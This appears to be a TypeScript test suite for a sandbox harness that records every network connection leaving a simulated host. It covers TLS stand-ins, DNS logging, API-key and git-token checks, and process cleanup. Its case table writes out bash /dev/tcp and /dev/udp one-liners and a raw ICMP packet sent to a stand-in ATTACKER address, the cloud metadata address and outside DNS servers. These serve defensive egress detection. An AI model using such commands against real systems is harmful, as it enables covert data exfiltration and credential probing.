/** Silence proves nothing: what a test expects not to see is seen here when it is sent on purpose. */
import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import test from 'node:test'
import { setTimeout } from 'node:timers/promises'
import { ATTACKER, addressOf, HOST_ADDRESSES } from './names.ts'
import { addRepository } from './repository.ts'
import { createWorld } from './world.ts'

test('everything that leaves the host of a world is seen', async t => {
  const world = await createWorld(t)
  const curl = (...argv: string[]) => world.host(['curl', '-sS', '--max-time', '10', ...argv])

  await t.test('a stand-in answers over TLS that the host trusts, IPv4 and IPv6', async () => {
    for (const family of ['-4', '-6']) {
      const { code, stdout, stderr } = await curl(family, '-H', 'X-Mixed: 1', 'https://echo.example.com/path?q=1')
      assert.equal(code, 0, stderr)
      assert.equal(JSON.parse(stdout).target, '/path?q=1')
    }
    const requests = await world.requests()
    assert.deepEqual(
      requests.map(({ server, target }) => [server, target]),
      [
        ['echo.example.com', '/path?q=1'],
        ['echo.example.com', '/path?q=1'],
      ],
    )
    assert.ok(requests[0]?.fields.some(([name]) => name === 'X-Mixed'))
    assert.deepEqual(await world.arrivals(), [])
  })

  await t.test('names that were asked are recorded, known or not', async () => {
    await curl('https://needle.unknown.example.com/')
    const names = (await world.queries()).map(({ name }) => name)
    assert.ok(names.includes('echo.example.com'))
    assert.ok(names.includes('needle.unknown.example.com'))
  })

  await t.test('the provider takes its key only, as JSON and as events', async () => {
    const ask = (key: string, body: object) =>
      curl('-H', `x-api-key: ${key}`, '-d', JSON.stringify(body), 'https://api.anthropic.com/v1/messages')
    assert.match((await ask('sk-ant-wrong', {})).stdout, /authentication_error/)
    assert.match((await ask(world.key, {})).stdout, /"input_tokens":11/)
    assert.match((await ask(world.key, { stream: true })).stdout, /event: message_delta\ndata: .*"output_tokens":7/)
  })

  await t.test('git is cloned with its key only', async () => {
    const clone = (key: string, to: string) => {
      const basic = Buffer.from(`x-access-token:${key}`).toString('base64')
      const argv = ['-c', `http.extraHeader=Authorization: Basic ${basic}`, 'clone', '-q']
      const env = { PATH: process.env.PATH ?? '', GIT_TERMINAL_PROMPT: '0' }
      return world.host(['git', ...argv, 'https://github.com/acme/notes.git', `${world.directory}/${to}`], { env })
    }
    await addRepository(world, 'acme/notes.git', { 'notes.txt': 'kept in git\n' })
    assert.notEqual((await clone('wrong', 'a')).code, 0)
    const { code, stderr } = await clone(world.key, 'b')
    assert.equal(code, 0, stderr)
    assert.equal(readFileSync(`${world.directory}/b/notes.txt`, 'utf8'), 'kept in git\n')
  })

  await t.test('certificates of the wrong kind are refused by a client', async () => {
    assert.equal((await curl('https://expired.example.com/')).code, 60)
    assert.equal((await curl('https://wrong-name.example.com/')).code, 60)
  })

  for (const [what, argv, expected] of [
    ['a raw IPv4 address', tcp(ATTACKER.v4, 80), ['tcp', ATTACKER.v4, 80]],
    ['a raw IPv6 address', tcp(ATTACKER.v6, 22), ['tcp', ATTACKER.v6, 22]],
    ['a stand-in, at another port', tcp('echo.example.com', 8081), ['tcp', addressOf('echo.example.com', 6), 8081]],
    ['the metadata address', tcp('169.254.169.254', 80), ['tcp', '169.254.169.254', 80]],
    ['a private address', tcp('10.1.2.3', 80), ['tcp', '10.1.2.3', 80]],
    ['UDP 443', ['bash', '-c', `echo needle >/dev/udp/${ATTACKER.v4}/443`], ['udp', ATTACKER.v4, 443]],
    ['UDP 443 over IPv6', ['bash', '-c', `echo needle >/dev/udp/${ATTACKER.v6}/443`], ['udp', ATTACKER.v6, 443]],
    ['DNS to another server', ['bash', '-c', 'echo needle >/dev/udp/8.8.8.8/53'], ['udp', '8.8.8.8', 53]],
    ['DNS to another server by TCP', tcp('8.8.8.8', 53), ['tcp', '8.8.8.8', 53]],
    ['an echo request', ['python3', '-c', ping(ATTACKER.v4)], ['icmp', ATTACKER.v4, 0]],
  ] as const) {
    await t.test(`${what} arrives at the sink`, async () => {
      const before = await world.arrivals()
      await world.host(argv)
      const [arrival] = (await world.arrivals()).slice(before.length)
      assert.ok(arrival, 'nothing arrived')
      assert.deepEqual([arrival.protocol, arrival.destination, arrival.port], expected)
      assert.ok([HOST_ADDRESSES.v4, HOST_ADDRESSES.v6].includes(arrival.source as never))
    })
  }
})

test('what runs on the host of a world ends with it, and is seen until then', async t => {
  const world = await createWorld(t)
  const sleeper = world.spawnHost(['sh', '-c', 'echo up; exec sleep 1000'], { input: 'open' })
  await sleeper.saw(/up/)
  while (world.machine.processes()[0]?.argv[0] !== 'sleep') await setTimeout(10)
  const shell = world.spawnHost(['sh', '-c', 'echo up; exec sh -c "kill -TERM \\$\\$"'])
  assert.deepEqual(await shell.exited.then(({ signal, stdout }) => [signal, stdout]), ['SIGTERM', 'up\n'])
  assert.deepEqual(
    world.machine.processes().map(({ argv }) => argv),
    [['sleep', '1000']],
  )
  await world.machine.close()
  assert.equal((await sleeper.exited).signal, 'SIGKILL')
})

function tcp(host: string, port: number): readonly string[] {
  return ['bash', '-c', `echo needle >/dev/tcp/${host}/${port}`]
}

function ping(address: string): string {
  return `import socket
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
s.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", ("${address}", 0))`
}
